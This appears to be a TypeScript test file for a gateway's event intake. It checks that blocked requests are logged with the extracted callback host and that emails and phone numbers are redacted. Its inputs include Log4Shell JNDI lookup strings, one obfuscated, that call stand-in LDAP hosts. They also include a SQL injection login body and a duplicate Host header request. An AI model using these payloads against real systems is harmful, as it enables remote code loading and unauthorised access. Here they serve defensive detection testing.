import assert from 'node:assert/strict'
import test from 'node:test'
import { setTimeout as wait } from 'node:timers/promises'
import { request } from 'undici'
import { EVENT_KINDS, type EventKind } from '../../src/intake/contract.ts'
import { raw, startRig } from './servers.ts'

const SECRET = 'nguyen.thi.hoa@example.vn'

test('every request becomes one event, a refused one two, as the intake takes them and without a value', async () => {
  await using rig = await startRig()
  const origin = `http://127.0.0.1:${rig.port}`
  const look = encodeURIComponent('${jndi:ldap://cap-nhat-anh.example:1389/a}')
  for (const [path, body] of [
    [`/xin-chao?email=${SECRET}`, undefined],
    ['/don-hang/0912345678', undefined],
    [`/tim-kiem?q=${look}&email=${SECRET}`, undefined],
    ['/dang-nhap', `u=${SECRET}&p=%27%20OR%201%3D1--`],
  ] as const) {
    const answer = await request(`${origin}${path}`, {
      method: body === undefined ? 'GET' : 'POST',
      headers: { cookie: `s=${SECRET}`, ...(body ? { 'content-type': 'application/x-www-form-urlencoded' } : {}) },
      ...(body === undefined ? {} : { body }),
    })
    await answer.body.dump()
  }
  await raw(rig.port, 'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n')
  await wait(50)
  const kinds = rig.events.map((event) => [event['kind'], event['status']])
  assert.deepEqual(
    kinds.toSorted((a, b) => String(a).localeCompare(String(b))),
    [
      ['gateway.access', 200],
      ['gateway.access', 200],
      ['gateway.access', 400],
      ['gateway.access', 403],
      ['gateway.access', 403],
      ['gateway.refused', 403],
      ['gateway.refused', 403],
    ],
  )
  for (const event of rig.events) {
    const result = EVENT_KINDS[event['kind'] as EventKind].safeParse(event)
    assert.ok(result.success, JSON.stringify([event, result.error?.issues]))
  }
  const refused = rig.events.filter((event) => event['kind'] === 'gateway.refused')
  assert.deepEqual(
    refused.map((event) => [event['callbackHost'], event['callbackPort']]).toSorted(),
    [
      ['cap-nhat-anh.example', 1389],
      [undefined, undefined],
    ].toSorted(),
  )
  const all = JSON.stringify(rig.events)
  for (const value of [SECRET, '0912345678', 'email=']) assert.ok(!all.includes(value), value)
})

for (const [value, kept] of [
  ['${jndi:ldap://cap-nhat-anh.example/a}', { callbackHost: 'cap-nhat-anh.example' }],
  ['${${::-j}${::-n}di:${::-l}dap://198.18.7.9:1389/a}', { callbackHost: '198.18.7.9', callbackPort: 1389 }],
  ['${jndi:ldap://0912345678.vn/a}', undefined],
  ['${jndi:ldap://localhost/a}', undefined],
  ['${jndi:ldap://a..b/x}', undefined],
  ['${jndi:ldap://cap-nhat-anh.example:99999/a}', { callbackHost: 'cap-nhat-anh.example' }],
] as const)
  test(`callback of ${value}`, async () => {
    await using rig = await startRig()
    const answer = await request(`http://127.0.0.1:${rig.port}/?q=${encodeURIComponent(value)}`)
    await answer.body.dump()
    const [{ callbackHost, callbackPort } = {} as { callbackHost?: string; callbackPort?: number }] = rig.refusals
    const found = callbackHost === undefined ? undefined : { callbackHost, ...(callbackPort ? { callbackPort } : {}) }
    assert.deepEqual([rig.refusals.length, found], [1, kept])
  })
